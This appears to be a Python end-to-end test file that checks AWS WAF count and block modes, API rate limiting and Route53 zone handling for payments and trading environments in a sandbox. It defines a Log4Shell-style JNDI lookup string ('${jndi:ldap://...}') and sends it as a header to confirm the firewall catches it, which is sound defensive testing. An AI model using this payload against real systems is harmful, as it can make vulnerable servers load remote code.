"""AWS WAF before both kinds of entry point, and zones that are there or that nobody finds: on deployed systems."""

from __future__ import annotations

import json
import time
from dataclasses import dataclass
from datetime import timedelta
from functools import cached_property
from typing import TYPE_CHECKING, Any

import boto3
import httpx
import pytest

from sandbox import Sandbox
from sandbox.variables import CREDENTIALS
from shared.environment import Environment
from shared.roles import ROLES
from tests.e2e.inventory import everything
from tests.sandbox.virtual_time import METRICS_ARRIVE, VirtualTime
from tests.waiting import until

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.e2e.conftest import Checkout

pytestmark = [pytest.mark.prove, pytest.mark.xdist_group("running")]

REGIONS = ["us-east-1", "us-east-2", "us-west-2"]
COUNTING = {
    "payments": ("managed: count   ", "rate: {mode: count, requests: 12000"),
    "trading": ("managed: count\n", "rate: {mode: count, requests: 6000"),
}
ATTACK = "${jndi:ldap://example.com/a}"
LIMIT = 100


@dataclass(frozen=True)
class Guarded:
    """A deployed environment as its clients reach it."""

    checkout: Checkout
    environment: Environment

    @property
    def named(self) -> tuple[str, str]:
        return "--environment", self.environment.name

    @cached_property
    def status(self) -> Any:
        return self.checkout.ok("sandbox.status", "--json").json

    def client(self, service: str, region: str) -> Any:
        credentials = {name.lower(): value for name, value in CREDENTIALS.items()}
        return boto3.client(service, region_name=region, endpoint_url=self.status["endpoint"], **credentials)

    def key(self, client: str) -> str:
        outputs = self.checkout.ok("outputs", *self.named, "--layer", "data", "--json").json
        arn = outputs[f"data/{self.environment.name}"]["api_keys_secret_arns"]["primary"]
        secret = self.client("secretsmanager", self.environment.regions.primary).get_secret_value(SecretId=arn)
        key: str = json.loads(secret["SecretString"])["clients"][client]["current"]
        return key

    def ask(self, role: Any, method: str, path: str, **more: Any) -> httpx.Response:
        headers = {"Host": self.environment.region_names.of(role), **more.pop("headers", {})}
        url = self.status["gateways"][self.environment.region(role)] + path
        for _ in range(5):
            answer = httpx.request(method, url, headers=headers, timeout=60, **more)
            if answer.status_code < 500 and answer.status_code != 409:
                break
            time.sleep(1)  # a busy machine answers late, and clients ask again
        return answer

    def pay(self, role: Any, key: str, **headers: str) -> httpx.Response:
        body = {"amount": 100, "currency": "USD", "customerId": "test-123"}
        given = {"x-api-key": key, "Idempotency-Key": f"waf-{time.monotonic_ns()}", **headers}
        return self.ask(role, "POST", "/payment", json=body, headers=given)

    def counted(self, role: Any, metric: str, rule: str) -> float:
        region = self.environment.region(role)
        (acl,) = [
            each["Name"]
            for each in self.client("wafv2", region).list_web_acls(Scope="REGIONAL")["WebACLs"]
            if self.environment.suffix in each["Name"]
        ]
        now = VirtualTime(Sandbox(self.checkout.root)).date()
        found = self.client("cloudwatch", region).get_metric_statistics(
            Namespace="AWS/WAFV2",
            MetricName=metric,
            Dimensions=[{"Name": n, "Value": v} for n, v in (("WebACL", acl), ("Region", region), ("Rule", rule))],
            StartTime=now - timedelta(minutes=30),
            EndTime=now,
            Period=60,
            Statistics=["Sum"],
        )["Datapoints"]
        return float(sum(each["Sum"] for each in found))


@pytest.fixture(params=["payments", "trading"])
def guarded(running: Checkout, request: pytest.FixtureRequest) -> Iterator[Guarded]:
    found = Guarded(running, Environment.load(request.param, running.root))
    running.ok("deploy-all", *found.named)
    yield found
    if request.param == "trading":
        running.ok("destroy-all", *found.named, "--yes")


def refused(answer: httpx.Response, status: int) -> dict[str, Any]:
    document: dict[str, Any] = answer.json()
    assert (answer.status_code, document["status"]) == (status, status)
    assert document["type"].startswith("/problems/")
    assert document["title"]
    return document


def test_the_firewall_counts_as_deployed_and_refuses_where_it_is_told_to(guarded: Guarded) -> None:
    checkout, name = guarded.checkout, guarded.environment.name
    storefront = guarded.key("storefront")
    for role in ROLES:
        before = guarded.counted(role, "CountedRequests", "bad-inputs")
        assert guarded.pay(role, storefront, **{"X-Note": ATTACK}).status_code == 201
        VirtualTime(Sandbox(checkout.root)).pass_seconds(METRICS_ARRIVE)
        assert guarded.counted(role, "CountedRequests", "bad-inputs") == before + 1
        assert guarded.counted(role, "BlockedRequests", "ALL") == 0
    file = f"environments/{name}.yaml"
    managed, rate = COUNTING[name]
    with (
        checkout.edited(file, managed, managed.replace("count", "block")),
        checkout.edited(file, rate, f"rate: {{mode: block, requests: {LIMIT}"),
    ):
        assert checkout.ok("deploy", *guarded.named, "--layer", "edge", "--json").statuses == {
            f"edge/{name}": "changed"
        }
        for role in ROLES:
            answer = guarded.pay(role, storefront, **{"X-Note": ATTACK})
            assert refused(answer, 403)["type"] == "/problems/forbidden"
            kind = "application/problem+json" if name == "payments" else "application/json"
            assert answer.headers["Content-Type"] == kind
            assert guarded.pay(role, storefront).status_code == 201
            assert guarded.ask(role, "GET", "/health").status_code == 200
        _a_key_over_its_rate_waits(guarded, storefront)
        _checkers_are_let_in(guarded)
        assert set(checkout.ok("deploy-all", *guarded.named, "--force", "--json").statuses.values()) == {"unchanged"}
        assert set(checkout.ok("drift", *guarded.named, "--json").statuses.values()) == {"unchanged"}
    checkout.ok("deploy", *guarded.named, "--layer", "edge")
    assert guarded.pay("primary", storefront, **{"X-Note": ATTACK}).status_code == 201


def _a_key_over_its_rate_waits(guarded: Guarded, key: str) -> None:
    for _ in range(LIMIT + 20):
        guarded.ask("primary", "GET", "/payment/none", headers={"x-api-key": key})
    until(lambda: guarded.pay("primary", key).status_code == 429, 25)
    answer = guarded.pay("primary", key)
    assert refused(answer, 429)["type"] == "/problems/throttled"
    assert answer.headers["Retry-After"] == "60"
    assert guarded.pay("primary", "another").status_code == 401
    assert guarded.ask("primary", "GET", "/health").status_code == 200
    assert guarded.pay("secondary", key).status_code == 201, "each region counts for itself"


def _checkers_are_let_in(guarded: Guarded) -> None:
    checkout = guarded.checkout
    time.sleep(12)  # the fast check asks every ten seconds
    told = checkout.ok("health", "--json").json
    unwell = [each for each in told["checks"] if not each["healthy"] and "stop" not in json.dumps(each)]
    assert unwell == [], told
    VirtualTime(Sandbox(checkout.root)).pass_seconds(METRICS_ARRIVE)
    if not told.get("trouble"):  # else this machine has none of the checkers' addresses
        for role in ROLES:
            assert guarded.counted(role, "AllowedRequests", "route53-checkers") > 0


def test_a_zone_that_nobody_finds_stops_a_release_in_seconds_with_what_to_set(running: Checkout) -> None:
    trading, zone = ("--environment", "trading"), "t9m4.trade.example.com"
    cloud = running.ok("sandbox.status", "--json").json["endpoint"]
    before = everything(cloud, REGIONS)
    running.ok("fault", "--kind", "name", "--region", "us-east-1", "--part", zone)
    stopped = running.run("deploy-all", *trading, "--json")
    assert stopped.code == 1
    said = stopped.messages["edge/trading"]
    assert f"the zone {zone} is not delegated" in said
    servers = [word.rstrip(",") for word in said.split() if word.startswith("ns-")]
    assert len(servers) == 4, said
    (took,) = [row["seconds"] for row in stopped.json["stacks"] if row["stack"] == "edge/trading"]
    assert took < 60, "the engine's own time, not a certificate's"
    running.ok("heal")
    assert running.ok("deploy-all", *trading, "--json").statuses["edge/trading"] == "changed"
    outputs = running.ok("outputs", *trading, "--layer", "edge", "--json").json["edge/trading"]
    assert [each.rstrip(".") for each in outputs["name_servers"]] == servers
    running.ok("destroy-all", *trading, "--yes")
    assert everything(cloud, REGIONS) == before


def test_a_zone_that_is_there_has_the_names_and_outlives_them(running: Checkout) -> None:
    guarded = Guarded(running, Environment.load("trading", running.root))
    route53 = guarded.client("route53", REGIONS[0])
    made = route53.create_hosted_zone(Name="trade.example.com", CallerReference="there")["HostedZone"]["Id"]
    zone = made.removeprefix("/hostedzone/")
    record = {"Name": "www.trade.example.com", "Type": "CNAME", "TTL": 60, "ResourceRecords": [{"Value": "a.example"}]}
    change = {"Changes": [{"Action": "CREATE", "ResourceRecordSet": record}]}
    route53.change_resource_record_sets(HostedZoneId=zone, ChangeBatch=change)

    def records() -> set[tuple[str, str]]:
        found = route53.list_resource_record_sets(HostedZoneId=zone)["ResourceRecordSets"]
        return {(each["Name"].rstrip("."), each["Type"]) for each in found}

    before = records()
    with running.edited("environments/trading.yaml", "\n  zone_id: null", f"\n  zone_id: {zone}"):
        running.ok("deploy-all", *guarded.named)
        assert (guarded.environment.failover_name, "CNAME") in records()
        names = {each["Name"] for each in route53.list_hosted_zones()["HostedZones"]}
        assert "t9m4.trade.example.com." not in names
        assert guarded.pay("primary", guarded.key("storefront")).status_code == 201
        assert set(running.ok("drift", *guarded.named, "--json").statuses.values()) == {"unchanged"}
        running.ok("destroy-all", *guarded.named, "--yes")
    assert records() == before
    route53.change_resource_record_sets(
        HostedZoneId=zone, ChangeBatch={"Changes": [{"Action": "DELETE", "ResourceRecordSet": record}]}
    )
    route53.delete_hosted_zone(Id=zone)
